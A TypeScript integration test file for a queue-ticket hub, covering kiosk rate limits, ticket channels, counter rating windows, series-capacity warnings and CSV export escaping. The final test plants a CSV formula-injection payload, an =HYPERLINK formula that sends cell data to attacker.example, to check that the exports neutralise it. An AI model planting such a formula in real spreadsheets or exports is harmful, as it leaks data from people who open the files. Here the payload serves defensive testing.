// Issuing and rating limits against a real hub: a kiosk's burst is refused (429 issue_limited)
// before it can empty a series, other callers are not; the manager sees a series near its last
// number; the channel comes from the caller (only a kiosk records "kiosk"); a counter's rating
// is taken only while its rating screen is up; every CSV the hub writes guards formula cells.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ack, connected, connectSocket } from '../support/sockets.js';
import { ADMIN_PASSWORD, login, request, startTestServer, type TestServer } from '../support/test-server.js';

let server: TestServer;
let offset = 0;
const clock = () => Date.now() + offset;
let admin = '';
let canbo1 = '';
let n = 0;

beforeAll(async () => {
  server = await startTestServer({ clock, options: { issueLimits: { perMinute: 5, perHour: 8 } } });
  admin = await login(server.url, 'admin', ADMIN_PASSWORD);
  const password = server.report.officers.find((o) => o.username === 'canbo1')?.password ?? '';
  canbo1 = await login(server.url, 'canbo1', password);
  expect(
    (await request(server.url, '/api/sites/demo/counters/c1/sign-in', { auth: canbo1, body: {} })).status,
  ).toBe(200);
});

afterAll(async () => {
  await server?.close();
});

const issue = (auth: string, extra: Record<string, unknown> = {}) => {
  n += 1;
  return request(server.url, '/api/sites/demo/tickets', {
    auth,
    body: { procedureId: 'p-khai-sinh', requestId: `limits-${String(n).padStart(5, '0')}`, ...extra },
  });
};

const hub = () => {
  const h = server.app.hubs.get('demo');
  if (!h) throw new Error('no demo site');
  return h;
};

describe('the per-kiosk issuing limit', () => {
  it('refuses a burst past the minute and the hour budgets, without using numbers; others still issue', async () => {
    const before = hub().state.tickets.size;
    for (let i = 0; i < 5; i++) expect((await issue(server.keys.kiosk)).status).toBe(201);
    const burst = await issue(server.keys.kiosk);
    expect(burst.status).toBe(429);
    expect(burst.body.error.code).toBe('issue_limited');
    expect(burst.body.error.details.retryAfterSeconds).toBeGreaterThan(0);
    expect(hub().state.tickets.size).toBe(before + 5);
    // Staff at the desk and an integration are not that kiosk.
    expect((await issue(canbo1)).status).toBe(201);
    expect((await issue(server.keys.integration)).status).toBe(201);
    offset += 61_000;
    for (let i = 0; i < 3; i++) expect((await issue(server.keys.kiosk)).status).toBe(201);
    const hour = await issue(server.keys.kiosk);
    expect(hour.status).toBe(429);
    expect(hour.body.error.details.retryAfterSeconds).toBeGreaterThan(60);
    expect(Number(hour.headers.get('retry-after'))).toBe(hour.body.error.details.retryAfterSeconds);
    // The socket is the same door: the kiosk's budget holds there too.
    const socket = connectSocket(server.url, { key: server.keys.kiosk });
    try {
      await connected(socket);
      const taken = await ack(socket, 'ticket:take', {
        procedureId: 'p-khai-sinh',
        requestId: 'limits-socket-1',
      });
      expect(taken.ok).toBe(false);
      expect(taken.error.code).toBe('issue_limited');
    } finally {
      socket.close();
    }
    expect(hub().state.tickets.size).toBe(before + 5 + 2 + 3);
  });
});

describe('the channel comes from the caller', () => {
  it('only a kiosk records "kiosk"; staff may say phone; an integration may not say kiosk or staff', async () => {
    const channelOf = (id: string) => hub().state.tickets.get(id)?.channel;
    const staffKiosk = await issue(canbo1, { channel: 'kiosk' });
    expect(staffKiosk.status).toBe(400);
    expect(staffKiosk.body.error.code).toBe('invalid_input');
    expect(staffKiosk.body.error.details.field).toBe('channel');
    const staffPhone = await issue(canbo1, { channel: 'phone' });
    expect(staffPhone.status).toBe(201);
    expect(channelOf(staffPhone.body.ticket.id)).toBe('phone');
    const staffPlain = await issue(canbo1);
    expect(channelOf(staffPlain.body.ticket.id)).toBe('staff');
    for (const channel of ['kiosk', 'staff']) {
      expect((await issue(server.keys.integration, { channel })).status).toBe(400);
    }
    const integration = await issue(server.keys.integration);
    expect(channelOf(integration.body.ticket.id)).toBe('appointment');
  });
});

describe('counter ratings only while the rating screen is up', () => {
  const post = (path: string, body: unknown = {}) =>
    request(server.url, `/api/sites/demo/counters/c1${path}`, { auth: canbo1, body });

  async function serveOne(): Promise<string> {
    const called = await post('/call-next');
    expect(called.status, JSON.stringify(called.body)).toBe(200);
    expect((await post('/finish')).status).toBe(200);
    return called.body.ticket.id as string;
  }

  it('accepts a rating right after the finish and refuses one after the screen closed (409 rating_window_closed)', async () => {
    const fresh = await serveOne();
    expect((await post('/rating', { ticketId: fresh, level: 3 })).status).toBe(201);
    const late = await serveOne();
    offset += hub().settings.rating.closeAfterSeconds * 1000 + 6_000;
    const refused = await post('/rating', { ticketId: late, level: 3 });
    expect(refused.status).toBe(409);
    expect(refused.body.error.code).toBe('rating_window_closed');
    expect(hub().state.tickets.get(late)?.rating).toBeNull();
    // The citizen's phone keeps its own, longer window.
    const token = hub().state.tickets.get(late)?.statusToken ?? '';
    expect((await request(server.url, `/api/tickets/${token}/rating`, { body: { level: 2 } })).status).toBe(
      201,
    );
  });
});

describe('a series near its last number', () => {
  it("shows on the site's health for the manager once 90% of its numbers are given", async () => {
    const health = () => request(server.url, '/api/sites/demo/health', { auth: admin });
    expect((await health()).body.series).toEqual([]);
    const h = hub();
    const seriesId = h.config.procedures.find((p) => p.id === 'p-khai-sinh')?.seriesId;
    const series = h.config.series.find((s) => s.id === seriesId);
    if (!series) throw new Error('no series');
    const given = h.state.issued.get(series.id) ?? 0;
    const target = Math.ceil((series.end - series.start + 1) * 0.9);
    await Promise.all(
      Array.from({ length: target - given }, (_, i) =>
        h.execute({
          type: 'ticket:issue',
          procedureId: 'p-khai-sinh',
          channel: 'staff',
          requestId: `fill-${i}`,
        }),
      ),
    );
    const warned = (await health()).body.series;
    expect(warned).toEqual([
      expect.objectContaining({
        seriesId: series.id,
        issued: target,
        capacity: series.end - series.start + 1,
      }),
    ]);
    expect(warned[0].left).toBe(series.end - series.start + 1 - target);
  });
});

describe('CSV exports guard formula cells', () => {
  it('a procedure named =HYPERLINK(…) is written with an apostrophe in the report CSV and the catalogue CSV', async () => {
    const config = await request(server.url, '/api/sites/demo/config', { auth: admin });
    const items = config.body.config.procedures as { id: string; name: { vi: string } }[];
    const procedure = items.find((p) => p.id === 'p-khai-sinh');
    expect(procedure).toBeDefined();
    const evil = '=HYPERLINK("http://attacker.example/?d="&A1,"Bấm")';
    const put = await request(server.url, '/api/sites/demo/config/procedures/p-khai-sinh', {
      method: 'PUT',
      auth: admin,
      body: { ...procedure, name: { ...procedure?.name, vi: evil } },
    });
    expect(put.status, JSON.stringify(put.body)).toBe(200);
    const report = await request(server.url, '/api/sites/demo/reports/procedures.csv', { auth: admin });
    expect(report.status).toBe(200);
    expect(report.body).toContain(`'=HYPERLINK(`);
    expect(report.body).not.toMatch(/(^|,|")=HYPERLINK/m);
    const exported = await request(server.url, '/api/sites/demo/catalogue-export?format=csv', {
      auth: admin,
    });
    expect(exported.status).toBe(200);
    expect(exported.body).toContain(`'=HYPERLINK(`);
  });
});
